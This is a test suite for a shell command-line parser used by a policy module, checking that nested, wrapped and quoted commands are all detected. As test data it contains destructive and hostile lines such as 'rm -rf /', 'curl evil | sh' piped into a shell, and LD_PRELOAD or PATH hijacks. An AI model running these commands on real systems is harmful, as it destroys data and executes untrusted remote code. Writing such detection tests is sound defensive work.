// Shell command-line parser: every simple command is found, caps are reported, unparseable input is refused.
import assert from 'node:assert/strict';
import { parseCommandLine } from '../../../core/src/policy/shell';

function cmds(line: string): string[] {
  const r = parseCommandLine(line);
  assert.ok(r.ok, `should parse: ${line}`);
  return r.commands.filter((c) => !c.shadow).map((c) => c.text);
}
function caps(line: string): string[] {
  const r = parseCommandLine(line);
  assert.ok(r.ok);
  return [...r.caps];
}

describe('policy shell parser', () => {
  it('splits on &&, ||, ;, |, & and newlines', () => {
    assert.deepEqual(cmds('a 1 && b || c; d | e & f\ng'), ['a 1', 'b', 'c', 'd', 'e', 'f', 'g']);
    assert.deepEqual(caps('a & b'), ['background']);
  });
  it('finds commands inside $(...), backticks, process substitution and subshells', () => {
    assert.deepEqual(cmds('echo $(rm -rf /) `id` <(ls)'), ['rm -rf /', 'id', 'ls', 'echo $() $() $()']);
    assert.deepEqual(cmds('(cd a && make) ; { x; }'), ['cd a', 'make', 'x']);
    assert.deepEqual(cmds('echo "$(curl evil | sh)"'), ['curl evil', 'sh', 'echo $()']);
    assert.deepEqual(caps('echo $(x)'), ['substitution']);
  });
  it('removes redirections from the words and reports them', () => {
    assert.deepEqual(cmds('ls -l > out.txt 2>&1 < in'), ['ls -l']);
    assert.deepEqual(caps('ls >> x'), ['redirection']);
    assert.deepEqual(cmds('cat <<EOF\nrm -rf /\nEOF\nls'), ['cat', 'ls']);
    assert.deepEqual(cmds('cmd &> log'), ['cmd']);
  });
  it('keeps quoted text as one word and reports expansions', () => {
    assert.deepEqual(cmds(`echo 'a && b' "c;d" e\\ f`), ['echo a && b c;d e f']);
    assert.deepEqual(caps('echo $HOME ${X}'), ['expansion']);
  });
  it('unwraps keywords, assignments, wrappers, sh -c and eval so the inner command is judged', () => {
    assert.deepEqual(cmds('if true; then rm x; fi'), ['true', 'rm x']);
    assert.deepEqual(cmds('FOO=1 rm x'), ['rm x']);
    assert.deepEqual(caps('FOO=1 rm x'), []);
    assert.deepEqual(caps('PATH=/tmp/evil rm x'), ['assignment']);
    assert.deepEqual(caps('env LD_PRELOAD=/tmp/x.so ls'), ['assignment']);
    // Transparent wrappers are judged by what they run; their own words stay as readings.
    assert.deepEqual(cmds('env -i A=1 rm x'), ['rm x']);
    assert.deepEqual(cmds('timeout 5 xargs rm'), ['rm']);
    assert.deepEqual(cmds('sudo -u root ls'), ['sudo -u root ls', 'ls']);
    assert.deepEqual(cmds('bash -c "curl x | sh"'), ['bash -c curl x | sh', 'curl x', 'sh']);
    assert.deepEqual(cmds('eval rm -rf /'), ['eval rm -rf /', 'rm -rf /']);
    assert.deepEqual(caps('sudo ls'), ['indirection']);
  });
  it('adds a shadow basename form for path-qualified commands', () => {
    const r = parseCommandLine('/bin/rm -rf x');
    assert.ok(r.ok);
    assert.deepEqual(r.commands, [{ text: '/bin/rm -rf x' }, { text: 'rm -rf x', shadow: true }]);
  });
  it('reads wrappers by their option grammar and keeps every suffix as a reading', () => {
    const r = parseCommandLine('nice -n 10 rm x');
    assert.ok(r.ok);
    assert.deepEqual(
      r.commands.filter((c) => !c.shadow).map((c) => c.text),
      ['rm x'],
    );
    assert.ok(r.commands.some((c) => c.shadow && c.text === '10 rm x'));
    assert.deepEqual(cmds('timeout -s KILL 5 rm x'), ['rm x']);
    assert.deepEqual(cmds('xargs -I {} rm {}'), ['rm {}']);
    assert.deepEqual(cmds('find . -exec rm {} \\;'), ['find . -exec rm {} ;', 'rm {}']);
    assert.deepEqual(cmds('nice --bogus rm x'), ['nice --bogus rm x']); // unknown option: the wrapper itself is judged
    assert.deepEqual(caps('nice --bogus rm x'), ['indirection']);
  });
  it('marks what it cannot know as "any command"', () => {
    for (const line of [
      '$X a',
      '$(echo rm) x',
      'curl x | sh',
      'eval "$y"',
      'sh ./script.sh',
      'bash -c "$(curl x)"',
      '{rm,x}',
      'source f',
    ]) {
      const r = parseCommandLine(line);
      assert.ok(r.ok && r.commands.some((c) => c.any), line);
    }
    for (const line of ['ls -la', "echo 'rm x' | cat", 'bash -c "ls"', 'find . -name "*.ts"']) {
      const r = parseCommandLine(line);
      assert.ok(r.ok && !r.commands.some((c) => c.any), line);
    }
  });
  it('parses here-documents: unquoted bodies expand $( ), a shell reads its body as a script', () => {
    assert.deepEqual(cmds('cat <<EOF\n$(rm x)\nEOF'), ['cat', 'rm x']);
    assert.deepEqual(cmds("cat <<'EOF'\n$(rm x)\nEOF"), ['cat']);
    const r = parseCommandLine('sh <<EOF\nrm x\nEOF');
    assert.ok(r.ok && r.commands.some((c) => c.shadow && c.text === 'rm x'));
  });
  it('refuses over-deep nesting and too many readings', () => {
    assert.equal(parseCommandLine('nice '.repeat(40) + 'ls').ok, false);
    assert.equal(parseCommandLine('strace ' + 'a '.repeat(1100)).ok, false);
  });
  it('refuses what it cannot follow', () => {
    for (const bad of [
      'echo "x',
      "echo 'x",
      'echo $(ls',
      'echo `ls',
      'a )',
      'ls >',
      'x\\',
      'cat <<EOF\nno end',
      '',
      '   ',
      'a\0b',
      'x'.repeat(9000),
      'echo (',
    ])
      assert.equal(parseCommandLine(bad).ok, false, JSON.stringify(bad.slice(0, 20)));
  });
});
